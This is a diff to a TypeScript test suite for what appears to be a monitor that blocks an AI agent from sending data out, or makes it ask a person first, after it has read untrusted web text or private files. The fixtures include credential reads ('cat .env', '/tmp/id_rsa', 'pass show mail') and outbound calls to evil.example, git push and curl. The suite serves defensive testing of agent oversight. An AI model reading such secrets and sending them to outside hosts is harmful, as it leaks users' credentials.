@@ -12,9 +12,10 @@ import { executeSpec } from '#tools/shell/spec.ts'
 import { readFileSpec, writeFileSpec } from '#tools/files/spec.ts'
 import { fetchUrlSpec } from '#tools/web/spec.ts'
 import { sessionScope } from './allowance.ts'
-import { carriesOut } from './carries-out.ts'
+import { carriesOut, sends } from './carries-out.ts'
 import { classesOf } from './classes-of.ts'
 import { decide } from './decide.ts'
+import { failureOutcome } from '../outcome.ts'
 import { Monitor, reopened, type MonitorParts } from './monitor.ts'
 import { watchAfter } from './watch-message.ts'
 
@@ -114,11 +115,87 @@ describe('what it objects to', () => {
     expect(monitor.objection(send, plain(send))).toContain('a page of example.com entered on 30 Nov at 14:02')
   })
 
-  it('private data alone is no reason: nobody is there who could ask for it', async () => {
-    const { monitor, run } = watched()
-    await run(file('/workspace/.env'), readFileSpec)
-    const send = page('https://example.com/')
-    expect(monitor.objection(send, plain(send))).toBeNull()
+  it('private data alone is a reason too, with when it was read', async () => {
+    const { monitor, kept, run } = watched()
+    const read = plan('credential-access', { kind: 'path', value: '/workspace/.env' })
+    await run(read, readFileSpec)
+    const said = message('Look at https://example.com/docs')
+    kept.watch = watchAfter(kept.watch, said) ?? kept.watch
+    const objection = (call: PlannedCall, more: Partial<CallAnalysis> = {}) =>
+      monitor.objection(call, plain(call, more))
+    const words = 'It can carry data out; .env was read at 14:02.'
+    expect(objection(page('https://example.com/?q=K1'))).toBe(words)
+    const push = command('git push origin main', 'external-side-effect')
+    expect(objection(push)).toBe(words)
+    expect(objection(command('curl x', 'read-only-network'), { origins: ['https://x.example'] })).toBe(words)
+    // What the person typed carries nothing of it, and what stays here takes it nowhere.
+    expect(objection(page('https://example.com/docs'))).toBeNull()
+    expect(objection(command('npm test', 'shared-state-mutation'))).toBeNull()
+    expect(objection({ ...read, target: { kind: 'path', value: '/workspace/.env.local' } })).toBeNull()
+    kept.watch = watchAfter(kept.watch, CLEARED) ?? kept.watch
+    expect(objection(page('https://example.com/?q=K1'))).toBeNull()
+  })
+
+  it('what a command was given counts, not what its words name', async () => {
+    const shell = (privateReads?: string[]): CallOutcome => ({
+      ...OK,
+      client: {
+        kind: 'shell',
+        summary: '',
+        command: '',
+        output: '',
+        omittedChars: 0,
+        exitCode: 0,
+        durationMs: 0,
+        cwd: '/workspace',
+        ...(privateReads === undefined ? {} : { privateReads }),
+      },
+    })
+    const names = async (value: string, risk: RiskClass, end: CallOutcome) => {
+      const { kept, run } = watched()
+      await run(command(value, risk), executeSpec, end)
+      return [kept.watch.privateReads.first.map(({ what }) => what), kept.watch.pending]
+    }
+    const reads = ['/workspace/.env', '/workspace/app/.env', '/tmp/id_rsa']
+    expect(await names('ls -a | xargs cat', 'read-only-local', shell(reads))).toEqual([
+      ['.env', 'app/.env', '/tmp/id_rsa'],
+      [],
+    ])
+    expect(await names('echo .env >> .gitignore', 'workspace-write', shell([]))).toEqual([[], []])
+    expect(await names('cat .env', 'credential-access', shell())).toEqual([['.env'], []])
+    expect(await names('pass show mail', 'credential-access', shell())).toEqual([['a stored key or token'], []])
+    const stopped = failureOutcome('cancelled', {
+      stage: 'execution',
+      kind: 'aborted',
+      message: 'It was stopped.',
+      retryable: true,
+      output: 'K=1',
+      privateReads: ['/workspace/.env'],
+    })
+    expect(await names('cat $(ls -a); sleep 60', 'read-only-local', stopped)).toEqual([['.env'], []])
+  })
+
+  it('what a command turned out to have read counts where storage refuses to say so, and is stored with the next', async () => {
+    const disk = { full: false }
+    const { monitor, kept, run } = watched({
+      update: async (change) => {
+        if (disk.full) throw new Error('The disk is full.')
+        kept.watch = change(kept.watch)
+      },
+    })
+    const read = command('cat $(ls -a)', 'read-only-local')
+    const matches = [{ path: '/workspace/.env', line: 1, text: '' }]
+    const end: CallOutcome = { ...OK, client: { kind: 'matches', summary: '', matches, omitted: 0 } }
+    await monitor.starting(read, executeSpec, plain(read))
+    disk.full = true
+    await monitor.ended(read, executeSpec, plain(read), end)
+    const send = page('https://evil.example/?q=1')
+    expect(monitor.objection(send, plain(send))).toBe('It can carry data out; .env was read at 14:02.')
+    disk.full = false
+    await run(file('/workspace/a.ts', 'c8'), readFileSpec)
+    const first = [{ callId: 'c3', what: '.env', at: AT }]
+    expect([kept.watch.privateReads, kept.watch.pending]).toEqual([{ first, more: 0 }, []])
+    expect(monitor.objection(send, plain(send))).toBe('It can carry data out; .env was read at 14:02.')
   })
 
   it('a page counts once it was told, also where storage refuses to say so', async () => {
@@ -291,7 +368,7 @@ describe('what it keeps', () => {
   })
 })
 
-it('once untrusted text is in, nothing that can carry data out runs without a person: any mode, rule and allowance', () => {
+it('once untrusted text or private data is in, nothing that can carry data out runs without a person: any mode, rule and allowance', () => {
   const target = fc.constantFrom<PlannedCall['target']>(
     { kind: 'address', value: 'https://example.com/x' },
     { kind: 'command', value: 'curl https://example.com' },
@@ -325,14 +402,18 @@ it('once untrusted text is in, nothing that can carry data out runs without a pe
     rules: fc.array(rule, { maxLength: 4 }),
     trusted: fc.boolean(),
     network: fc.boolean(),
-    privateRead: fc.boolean(),
+    holds: fc.constantFrom('entered', 'private', 'both'),
   })
   fc.assert(
     fc.property(anything, (each) => {
       const { monitor, kept } = watched({ network: each.network })
       const entry = { callId: 'c0', what: 'a page of evil.example', at: AT }
       const entries = { first: [entry], more: 0 }
-      kept.watch = { ...NOTHING_WATCHED, entered: entries, ...(each.privateRead ? { privateReads: entries } : {}) }
+      kept.watch = {
+        ...NOTHING_WATCHED,
+        ...(each.holds === 'private' ? {} : { entered: entries }),
+        ...(each.holds === 'entered' ? {} : { privateReads: entries }),
+      }
       const call = plan(each.effective, each.target, { declaredRisk: each.declared })
       // Whoever names an origin has read something that goes to the network.
       const risk = each.origins.length > 0 ? riskier(each.analysed, 'read-only-network') : each.analysed
@@ -347,7 +428,8 @@ it('once untrusted text is in, nothing that can carry data out runs without a pe
         objection: monitor.objection(call, analysis),
       }
       const { outcome } = decide(call, facts, AT)
-      if (carriesOut(call, analysis, each.network)) expect(outcome).not.toBe('run')
+      const takesOut = each.holds === 'private' ? sends : carriesOut
+      if (takesOut(call, analysis, each.network)) expect(outcome).not.toBe('run')
       if (each.mode === 'headless') expect(outcome).not.toBe('ask')
     }),
     { numRuns: 5_000, seed: 20_261_130 },
